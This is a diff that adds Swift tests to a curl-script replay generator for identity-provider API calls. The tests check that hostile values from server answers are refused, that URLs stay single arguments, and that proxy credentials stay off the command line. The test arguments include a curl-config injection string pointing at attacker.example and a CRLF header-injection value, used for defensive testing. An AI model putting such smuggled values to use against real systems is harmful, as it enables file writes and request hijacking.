@@ -113,6 +113,87 @@ struct CurlScriptTests {
         #expect(result.output.contains("1 200\n2 200\n3 200"))
     }
 
+    /// Values a replay reads from answers reach curl's `-K` config (a URL with a secret) and `-H @file` headers. A
+    /// server that answers one holding a quote and new lines would add curl options there (`output = …` writes a
+    /// file) or headers: the script refuses it before curl runs, saying which value and why.
+    @Test(arguments: [
+        "x\"\noutput = \"PWNED-CONFIG\"\nurl = \"https://attacker.example/",
+        "x\r\nX-Injected: 1", "back\\slash", "tab\there", "del\u{7F}",
+    ])
+    func aValueFromAnAnswerThatCouldAddCurlOptionsStopsTheReplay(hostile: String) async throws {
+        let token = URL(string: "\(org)/oauth2/default/v1/token")!
+        var userinfo = HTTPRequest.get(URL(string: "\(org)/oauth2/default/v1/userinfo")!)
+        userinfo.headers["Authorization"] = "Bearer PlantedAccessToken-0123456789"
+        let requests = [
+            try HTTPRequest.json("POST", URL(string: "\(org)/api/v1/authn")!, body: ["username": "jo", "password": password]),
+            HTTPRequest.get(URL(string: "\(org)/oauth2/default/v1/authorize?client_id=c&sessionToken=PlantedSession-0123&state=s")!),
+            HTTPRequest.form(token, fields: [("grant_type", "client_credentials")]), userinfo,
+        ]
+        let script = try await run(
+            requests,
+            answers: [
+                .json(200, #"{"status":"SUCCESS","sessionToken":"PlantedSession-0123"}"#), .json(400, "{}"),
+                .json(200, #"{"access_token":"PlantedAccessToken-0123456789"}"#), .json(200, "{}"),
+            ])
+        #expect(script.contains("-K <("), "the authorize URL carries the session token: \(script)")
+        #expect(script.contains("-H @<("), "the access token goes in a header file: \(script)")
+
+        // Replayed with the hostile value in the first answer: curl runs once, for that request, and no more.
+        let curl = try FakeCurl()
+        try curl.answer(1, json: JSONValue.object(["sessionToken": .string(hostile)]).compactText)
+        let result = try curl.run(script, environment: ["PASSWORD": password])
+        #expect(result.status == 65, "\(result.standardError)\n\(script)")
+        #expect(result.standardError.contains("idflow replay: stopped: SESSION_TOKEN, read from an answer, holds a quote"))
+        #expect(curl.recorded("count") == "1\n", "only the request before the hostile answer was sent")
+        #expect(!curl.exists("2.config"))
+
+        // The same for the access token of the third answer, which the fourth request sends as a header.
+        let second = try FakeCurl()
+        try second.answer(1, json: #"{"sessionToken":"replaySession"}"#)
+        try second.answer(3, json: JSONValue.object(["access_token": .string(hostile)]).compactText)
+        let stopped = try second.run(script, environment: ["PASSWORD": password])
+        #expect(stopped.status == 65, "\(stopped.standardError)\n\(script)")
+        #expect(stopped.standardError.contains("ACCESS_TOKEN, read from an answer"))
+        #expect(second.recorded("count") == "3\n", "the request that would send it as a header was not")
+        #expect(second.recorded("2.config")?.contains("sessionToken=replaySession&") == true, "a plain value passes")
+    }
+
+    /// A URL naming only what an earlier POST created (not a secret) is one argv word, which no value in it can
+    /// turn into more curl options; no `-K` config is written for it.
+    @Test func aURLWithoutASecretIsOneArgument() async throws {
+        var create = try HTTPRequest.json("POST", URL(string: "\(org)/api/v1/users")!, body: ["profile": ["login": "jo"]])
+        create.headers["Authorization"] = "SSWS \(apiToken)"
+        var activate = HTTPRequest(method: "POST", url: URL(string: "\(org)/api/v1/users/00uCreatedUser1/lifecycle/activate")!)
+        activate.headers["Authorization"] = "SSWS \(apiToken)"
+        let script = try await run([create, activate], answers: [.json(200, #"{"id":"00uCreatedUser1"}"#), .json(200, "{}")])
+        #expect(script.contains(#"'\#(org)/api/v1/users/'"$USER_ID"'/lifecycle/activate'"#), "\(script)")
+        #expect(!script.contains("-K"), "\(script)")
+        let curl = try FakeCurl()
+        try curl.answer(1, json: #"{"id":"00uReplayed2"}"#)
+        let result = try curl.run(script, environment: ["OKTA_CLIENT_TOKEN": apiToken])
+        #expect(result.status == 0, "\(result.standardError)\n\(script)")
+        #expect(curl.recorded("2.url") == "\(org)/api/v1/users/00uReplayed2/lifecycle/activate")
+    }
+
+    /// A proxy with credentials in its URL: the script names them only as `PROXY_USERINFO`, read from the
+    /// environment like the API token, and curl reads the whole proxy URL from a config no `ps` shows.
+    @Test func theProxysCredentialsAreAVariable() async throws {
+        let proxy = "http://jo:s3cr%40t@proxy.example:3128"
+        let lines = Locked<[String]>([])
+        let stream = CurlScript(write: { line in lines.withLock { $0.append(line) } }, transport: .init(proxy: proxy))
+        let client = HTTPClient(transport: ScriptedTransport([.json(200, "{}")]), retryPolicy: RetryPolicy(maxRetries: 0), curl: stream)
+        _ = try await client.send(.get(URL(string: "\(org)/api/v1/users/me")!))
+        let script = lines.current.joined(separator: "\n")
+        #expect(!script.contains("s3cr"), "\(script)")
+        #expect(script.contains(#"export PROXY_USERINFO="${PROXY_USERINFO:?the user name and password of the proxy"#), "\(script)")
+        #expect(stream.text.contains("export PROXY_USERINFO="), "the file form declares it too")
+        let curl = try FakeCurl()
+        let result = try curl.run(script, environment: ["PROXY_USERINFO": "jo:s3cr%40t"])
+        #expect(result.status == 0, "\(result.standardError)\n\(script)")
+        #expect(curl.recorded("1.config") == "proxy = \"\(proxy)\"\n")
+        #expect(!(curl.recorded("argv") ?? "").contains("s3cr"), "not on curl's command line")
+    }
+
     @Test func aFormWithAVerifierIsRebuiltWithTheVariable() async throws {
         let verifier = "PlantedVerifier-~._0123456789abcdefghijklmnopqrstuvwxyz"
         let request = HTTPRequest.form(
